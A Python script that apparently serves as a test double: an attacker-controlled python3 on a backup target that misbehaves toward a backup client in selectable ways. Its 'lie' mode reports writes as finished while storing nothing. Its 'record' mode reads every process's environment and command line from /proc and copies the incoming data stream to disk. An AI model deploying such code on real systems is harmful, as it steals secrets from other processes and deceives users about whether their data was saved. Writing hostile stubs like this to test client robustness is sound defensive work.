"""A target's Python in the hands of an attacker: /usr/local/bin/python3 (borg12-client).

What it does instead of running the helper stands in /srv/control/mode. Questions that are not about
writing get the honest answer.
"""

from __future__ import annotations

import contextlib
import json
import os
import struct
import subprocess
import sys
from pathlib import Path

CONTROL, HONEST = Path("/srv/control"), "/usr/bin/python3"
MARK = b"\nborgpull-write 1 \n"
HEAD, TOLD, BYE = struct.Struct("<BII"), 2, 3
HOLE, TELL, FINISH, ITEMS = 5, 11, 12, (2, 3, 8, 9, 10)


def told(number: int, size: int, kind: int = TOLD) -> bytes:
    return struct.pack("<BIIQ", kind, 12, number, size)


def say(text: bytes) -> None:
    os.write(1, text)


def flood() -> None:
    with contextlib.suppress(BrokenPipeError):
        while True:
            say(b"y\n" * 4096)


def flood_later() -> None:
    say(MARK + told(0, 0))
    with contextlib.suppress(BrokenPipeError):
        while True:
            say(told(0, 0))


def early() -> None:
    say(MARK + told(0, 0) + told(0, 0, BYE))
    sys.stdin.buffer.read()


def gone() -> None:
    """It says nothing, and has done nothing."""


def lie() -> None:
    """Say that all is done, and write nothing: the input is taken apart as a helper would."""
    source = sys.stdin.buffer
    for _ in sys.argv[5:]:  # the names of the helper's parts
        source.read(int(source.read(8)))
    number = size = 0
    say(MARK)
    kind = 0
    while kind != FINISH:
        kind, head, content = HEAD.unpack(source.read(HEAD.size))
        text, data = source.read(head), source.read(content)
        number += kind in ITEMS
        size += len(data) + (json.loads(text)["n"] if kind == HOLE else 0)
        if kind in (1, TELL):
            say(told(number, size))
    say(told(number, size, BYE))


def record() -> None:
    """Be honest, and keep all that comes, and all that processes here are told."""
    with (CONTROL / "seen").open("wb") as seen:
        for path in Path("/proc").glob("[0-9]*/*"):
            if path.name in ("environ", "cmdline"):
                with contextlib.suppress(OSError):
                    seen.write(path.read_bytes())
    command = f'tee {CONTROL}/stream | {HONEST} "$@"'
    sys.exit(subprocess.call(["sh", "-c", command, "sh", *sys.argv[1:]]))


if len(sys.argv) < 6 or "attributes" in sys.argv[-1]:
    os.execv(HONEST, [HONEST, *sys.argv[1:]])
{one.__name__: one for one in (flood, flood_later, early, gone, lie, record)}[
    (CONTROL / "mode").read_text().strip()
]()
